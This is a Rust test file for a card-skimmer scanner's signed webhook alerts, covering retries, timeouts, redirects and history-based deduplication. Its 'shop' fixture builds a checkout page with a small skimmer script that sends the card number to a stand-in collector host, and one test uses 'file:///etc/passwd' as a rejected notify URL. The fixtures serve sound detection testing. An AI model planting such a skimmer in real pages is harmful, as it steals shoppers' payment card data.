//! `--notify`: a signed JSON alert when the scan reaches --fail-on or is incomplete, retried on
//! transient failures, never followed through a redirect, never hanging the scan; a failed
//! delivery is exit 4. The receiver is a loopback server that checks the signature itself.
//! With `--history` (SQLite and PostgreSQL, tests/history_support), a finding is alerted on
//! once, its disappearance once, and an undelivered alert is sent again by the next scan.

mod common;
mod history_support;

use history_support::Backend;

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use hmac::{Hmac, KeyInit, Mac};
use sha2::Sha256;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const SECRET: &str = "s3cret-for-tests";

/// How the receiver behaves.
#[derive(Clone, Copy)]
enum Mode {
    Accept,
    /// 503 this many times, then 200.
    FailFirst(usize),
    /// Never answers.
    Hang,
    /// 302 to /elsewhere.
    Redirect,
    /// 400 (a final answer).
    Reject,
}

#[derive(Default)]
struct Seen {
    attempts: usize,
    /// Bodies of accepted alerts whose signature verified.
    alerts: Vec<serde_json::Value>,
    bad_signatures: usize,
    elsewhere: usize,
}

struct Receiver {
    url: String,
    seen: Arc<Mutex<Seen>>,
    _rt: tokio::runtime::Runtime,
}

fn receiver(mode: Mode) -> Receiver {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let seen = Arc::new(Mutex::new(Seen::default()));
    let state = (seen.clone(), mode);
    async fn hook(
        State((seen, mode)): State<(Arc<Mutex<Seen>>, Mode)>,
        headers: HeaderMap,
        body: Bytes,
    ) -> Response {
        let attempt = {
            let mut s = seen.lock().unwrap();
            s.attempts += 1;
            s.attempts
        };
        match mode {
            Mode::Hang => {
                tokio::time::sleep(Duration::from_secs(3600)).await;
                return StatusCode::OK.into_response();
            }
            Mode::FailFirst(n) if attempt <= n => {
                return StatusCode::SERVICE_UNAVAILABLE.into_response();
            }
            Mode::Redirect => {
                return (StatusCode::FOUND, [("location", "/elsewhere")]).into_response();
            }
            Mode::Reject => return StatusCode::BAD_REQUEST.into_response(),
            _ => {}
        }
        let mut mac = <Hmac<Sha256> as KeyInit>::new_from_slice(SECRET.as_bytes()).unwrap();
        mac.update(&body);
        let want: String = mac
            .finalize()
            .into_bytes()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let got = headers
            .get("x-skimscan-signature")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("");
        let mut s = seen.lock().unwrap();
        if got != format!("sha256={want}") {
            s.bad_signatures += 1;
            return StatusCode::UNAUTHORIZED.into_response();
        }
        s.alerts.push(serde_json::from_slice(&body).unwrap());
        StatusCode::OK.into_response()
    }
    async fn elsewhere(State((seen, _)): State<(Arc<Mutex<Seen>>, Mode)>) -> StatusCode {
        seen.lock().unwrap().elsewhere += 1;
        StatusCode::OK
    }
    let app = Router::new()
        .route("/hook", axum::routing::post(hook))
        .route("/elsewhere", axum::routing::post(elsewhere).get(elsewhere))
        .with_state(state);
    let listener = rt
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let addr = listener.local_addr().unwrap();
    rt.spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Receiver {
        url: format!("http://{addr}/hook"),
        seen,
        _rt: rt,
    }
}

/// A checkout page; with `skimmer`, its script sends the card number to a collector.
fn shop(dir: &Path, skimmer: bool) -> String {
    std::fs::create_dir_all(dir).unwrap();
    let script = if skimmer {
        "document.getElementById('f').addEventListener('submit', function () {\n\
         var n = document.getElementById('cc-number').value;\n\
         navigator.sendBeacon('https://img.cdn-metrics.net/c', JSON.stringify({n: n}));\n});"
    } else {
        "document.getElementById('f').addEventListener('submit', function () {});"
    };
    let page = dir.join("checkout.html");
    std::fs::write(
        &page,
        format!(
            "<!doctype html><title>Checkout</title><form id=f action=/order method=post>\
             <input id=cc-number autocomplete=cc-number><input autocomplete=cc-csc name=cvv>\
             </form><script>{script}</script>"
        ),
    )
    .unwrap();
    page.to_string_lossy().into_owned()
}

fn scan_notify(target: &str, url: &str, extra: &[&str]) -> (i32, String, Duration) {
    let t = Instant::now();
    let out = common::skimscan()
        .env("SKIMSCAN_TEST_SECRET", SECRET)
        .args(["scan", "--format", "json", target, "--notify", url])
        .args(["--notify-secret-env", "SKIMSCAN_TEST_SECRET"])
        .args(extra)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        t.elapsed(),
    )
}

#[test]
fn a_malicious_scan_sends_one_signed_alert_naming_the_host() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let r = receiver(Mode::Accept);
    let (code, err, _) = scan_notify(&page, &r.url, &[]);
    assert_eq!(code, 1, "{err}");
    let s = r.seen.lock().unwrap();
    assert_eq!(s.bad_signatures, 0);
    assert_eq!(s.alerts.len(), 1);
    let a = &s.alerts[0];
    assert_eq!(a["kind"], "skimscan.alert");
    assert_eq!(a["schema_version"], 1);
    assert_eq!(a["verdict"], "malicious");
    assert_eq!(a["reason"], "findings");
    let hosts: Vec<&str> = a["new_findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "critical")
        .flat_map(|f| f["hosts"].as_array().unwrap().iter())
        .filter_map(|h| h.as_str())
        .collect();
    assert!(hosts.contains(&"img.cdn-metrics.net"), "{a}");
    let text = a["text"].as_str().unwrap();
    assert!(
        text.contains("MALICIOUS") && text.contains("img.cdn-metrics.net"),
        "{text}"
    );
    assert!(a["summary"]["findings"]["critical"].as_u64().unwrap() >= 1);
}

#[test]
fn a_clean_complete_scan_sends_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), false);
    let r = receiver(Mode::Accept);
    let (code, err, _) = scan_notify(&page, &r.url, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(r.seen.lock().unwrap().attempts, 0);
}

#[test]
fn an_incomplete_scan_alerts_even_without_findings() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tmp.path()).unwrap();
    // A page whose script is missing from the directory: the scan did not see everything.
    let page = tmp.path().join("checkout.html");
    std::fs::write(
        &page,
        "<!doctype html><form><input autocomplete=cc-number></form><script src=\"/js/missing.js\"></script>",
    )
    .unwrap();
    let r = receiver(Mode::Accept);
    let (code, err, _) = scan_notify(&page.to_string_lossy(), &r.url, &[]);
    assert_eq!(code, 3, "{err}");
    let s = r.seen.lock().unwrap();
    assert_eq!(s.alerts.len(), 1);
    assert_eq!(s.alerts[0]["reason"], "incomplete");
    assert_eq!(s.alerts[0]["complete"], false);
    assert!(!s.alerts[0]["errors"].as_array().unwrap().is_empty());
}

#[test]
fn transient_failures_are_retried_until_delivered() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let r = receiver(Mode::FailFirst(2));
    let (code, err, _) = scan_notify(&page, &r.url, &[]);
    assert_eq!(code, 1, "delivered on the third attempt: {err}");
    let s = r.seen.lock().unwrap();
    assert_eq!(s.attempts, 3);
    assert_eq!(s.alerts.len(), 1);
}

#[test]
fn a_webhook_that_never_answers_cannot_hang_the_scan() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let r = receiver(Mode::Hang);
    let (code, err, took) = scan_notify(&page, &r.url, &["--timeout", "1"]);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("not delivered after 4 attempt(s)"), "{err}");
    // Four 1-second attempts and 3.5 s of backoff; far below a hang.
    assert!(took < Duration::from_secs(30), "{took:?}");
    assert_eq!(r.seen.lock().unwrap().attempts, 4);
}

#[test]
fn redirects_and_client_errors_are_final_and_not_followed() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    for mode in [Mode::Redirect, Mode::Reject] {
        let r = receiver(mode);
        let (code, err, _) = scan_notify(&page, &r.url, &[]);
        assert_eq!(code, 4, "{err}");
        let s = r.seen.lock().unwrap();
        assert_eq!(s.attempts, 1, "a final answer is not retried");
        assert_eq!(s.elsewhere, 0, "the redirect was followed");
        // The webhook's path (often its token) is not printed.
        assert!(!err.contains("/hook"), "{err}");
    }
}

#[test]
fn bad_notify_settings_fail_before_scanning() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let out = common::skimscan()
        .args(["scan", &page, "--notify", "file:///etc/passwd"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let out = common::skimscan()
        .env_remove("SKIMSCAN_UNSET_SECRET")
        .args(["scan", &page, "--notify", "http://127.0.0.1:9/h"])
        .args(["--notify-secret-env", "SKIMSCAN_UNSET_SECRET"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("SKIMSCAN_UNSET_SECRET"));
}

/// The checkout page with a script the directory does not have: the scan is incomplete.
fn incomplete_shop(dir: &Path, skimmer: bool) -> String {
    let page = shop(dir, skimmer);
    let html = std::fs::read_to_string(&page).unwrap();
    std::fs::write(
        &page,
        html.replace("</form>", "</form><script src=\"/js/missing.js\"></script>"),
    )
    .unwrap();
    page
}

fn alerts(r: &Receiver) -> Vec<serde_json::Value> {
    r.seen.lock().unwrap().alerts.clone()
}

/// The critical findings' outside hosts of an alert.
fn critical_hosts(a: &serde_json::Value) -> Vec<String> {
    a["new_findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "critical")
        .flat_map(|f| f["hosts"].as_array().unwrap().iter())
        .filter_map(|h| h.as_str().map(str::to_string))
        .collect()
}

#[test]
fn without_history_every_scan_alerts_again() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let r = receiver(Mode::Accept);
    for _ in 0..2 {
        let (code, err, _) = scan_notify(&page, &r.url, &[]);
        assert_eq!(code, 1, "{err}");
    }
    assert_eq!(alerts(&r).len(), 2);
}

crate::on_both_backends!(
    with_history_a_finding_is_alerted_once_and_its_end_once,
    an_undelivered_alert_is_not_remembered,
);

fn with_history_a_finding_is_alerted_once_and_its_end_once(backend: &Backend) {
    let tmp = tempfile::tempdir().unwrap();
    let db = backend.db("dedup");
    let r = receiver(Mode::Accept);
    let history = ["--history", db.spec.as_str()];
    let step = |page: String, want_code: i32, want_alerts: usize, what: &str| {
        let (code, err, _) = scan_notify(&page, &r.url, &history);
        assert_eq!(code, want_code, "{what}: {err}");
        let got = alerts(&r);
        assert_eq!(got.len(), want_alerts, "{what}: {got:#?}\n{err}");
        got
    };

    // 1. The skimmer appears: one alert naming the collector.
    let got = step(shop(tmp.path(), true), 1, 1, "malicious");
    assert_eq!(got[0]["reason"], "findings");
    assert!(critical_hosts(&got[0]).contains(&"img.cdn-metrics.net".to_string()));
    assert_eq!(got[0]["resolved_findings"], serde_json::json!([]));

    // 2. Still there, unchanged: nothing new to tell.
    step(shop(tmp.path(), true), 1, 1, "unchanged");

    // 3. Gone: one "resolved" alert naming what was resolved.
    let got = step(shop(tmp.path(), false), 0, 2, "resolved");
    let a = &got[1];
    assert_eq!(a["reason"], "resolved");
    assert_eq!(a["verdict"], "clean");
    assert_eq!(a["new_findings"], serde_json::json!([]));
    let resolved = a["resolved_findings"].as_array().unwrap();
    assert!(!resolved.is_empty(), "{a:#}");
    assert!(
        resolved.iter().any(|k| k["hosts"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!("img.cdn-metrics.net"))),
        "{a:#}"
    );
    // The key names the shop and the script's content, not its place.
    assert_eq!(resolved[0]["site"], tmp.path().to_string_lossy().as_ref());
    assert_eq!(resolved[0]["script"].as_str().unwrap().len(), 64, "{a:#}");
    assert!(a["text"].as_str().unwrap().contains("resolved"), "{a:#}");

    // 4. Still gone: said once, not again.
    step(shop(tmp.path(), false), 0, 2, "resolved again");

    // 5. Back: alerted again, as new.
    let got = step(shop(tmp.path(), true), 1, 3, "malicious again");
    assert_eq!(got[2]["reason"], "findings");
    assert!(critical_hosts(&got[2]).contains(&"img.cdn-metrics.net".to_string()));

    // 6. Incomplete, skimmer still there: an "incomplete" alert (every time), nothing new.
    let got = step(incomplete_shop(tmp.path(), true), 1, 4, "incomplete");
    assert_eq!(got[3]["reason"], "incomplete");
    assert_eq!(got[3]["complete"], false);
    assert_eq!(got[3]["new_findings"], serde_json::json!([]));

    // 7. Incomplete without the skimmer: the scan did not see everything, so it resolves
    //    nothing — it alerts as incomplete.
    let got = step(
        incomplete_shop(tmp.path(), false),
        3,
        5,
        "incomplete, skimmer gone",
    );
    assert_eq!(got[4]["reason"], "incomplete");
    assert_eq!(got[4]["resolved_findings"], serde_json::json!([]));

    // 8. A complete clean scan: now it is resolved.
    let got = step(shop(tmp.path(), false), 0, 6, "resolved after the gap");
    assert_eq!(got[5]["reason"], "resolved");
    assert_eq!(r.seen.lock().unwrap().bad_signatures, 0);
}

fn an_undelivered_alert_is_not_remembered(backend: &Backend) {
    let tmp = tempfile::tempdir().unwrap();
    let db = backend.db("undelivered");
    let page = shop(tmp.path(), true);
    let history = ["--history", db.spec.as_str()];
    // The only webhook refuses: exit 4, and the finding is not marked as alerted…
    let refusing = receiver(Mode::Reject);
    let (code, err, _) = scan_notify(&page, &refusing.url, &history);
    assert_eq!(code, 4, "{err}");
    assert_eq!(refusing.seen.lock().unwrap().attempts, 1);
    // …so the next scan sends it, and the one after does not.
    let r = receiver(Mode::Accept);
    for want in [1, 1] {
        let (code, err, _) = scan_notify(&page, &r.url, &history);
        assert_eq!(code, 1, "{err}");
        assert_eq!(alerts(&r).len(), want);
    }
    assert_eq!(alerts(&r)[0]["reason"], "findings");
    // One of two webhooks taking it is a delivery: remembered, though the scan exits 4.
    let tmp2 = tempfile::tempdir().unwrap();
    let page2 = shop(&tmp2.path().join("second-shop"), true);
    let (code, err, _) = scan_notify(
        &page2,
        &r.url,
        &[&history[..], &["--notify", refusing.url.as_str()]].concat(),
    );
    assert_eq!(code, 4, "{err}");
    assert_eq!(alerts(&r).len(), 2, "the second shop is news");
    let (code, err, _) = scan_notify(&page2, &r.url, &history);
    assert_eq!(code, 1, "{err}");
    assert_eq!(alerts(&r).len(), 2, "and was remembered");
}
